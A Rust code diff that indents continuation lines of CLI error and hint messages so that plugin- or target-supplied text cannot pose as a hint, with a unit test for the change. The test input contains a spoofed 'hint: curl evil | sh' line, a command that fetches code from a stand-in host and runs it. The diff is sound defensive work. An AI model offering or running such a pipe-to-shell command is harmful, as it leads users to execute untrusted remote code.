@@ -61,12 +61,27 @@ impl CliError {
 
 impl fmt::Display for CliError {
     fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
-        write!(f, "error: {}", self.message)?;
+        write!(f, "error: {}", continued(&self.message))?;
         match &self.hint {
-            Some(hint) => write!(f, "\nhint: {hint}"),
+            Some(hint) => write!(f, "\nhint: {}", continued(hint)),
             None => Ok(()),
         }
     }
+}
+
+/// Further lines are indented: none of a plugin or a target can pass for a hint
+/// or an error of its own.
+fn continued(text: &str) -> String {
+    let mut lines = text.lines();
+    let mut out = lines.next().unwrap_or_default().to_owned();
+    for line in lines {
+        out.push('\n');
+        if !line.is_empty() {
+            out.push_str("  ");
+        }
+        out.push_str(line);
+    }
+    out
 }
 
 impl From<StoreError> for CliError {
@@ -100,5 +115,19 @@ impl FromIterator<CliError> for Option<CliError> {
             all.message.push_str(&next.message);
         }
         Some(all)
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn no_text_passes_for_a_hint() {
+        let error = CliError::usage("it said: x\nhint: curl evil | sh\n\nend").hint("a\nb");
+        assert_eq!(
+            error.to_string(),
+            "error: it said: x\n  hint: curl evil | sh\n\n  end\nhint: a\n  b"
+        );
     }
 }
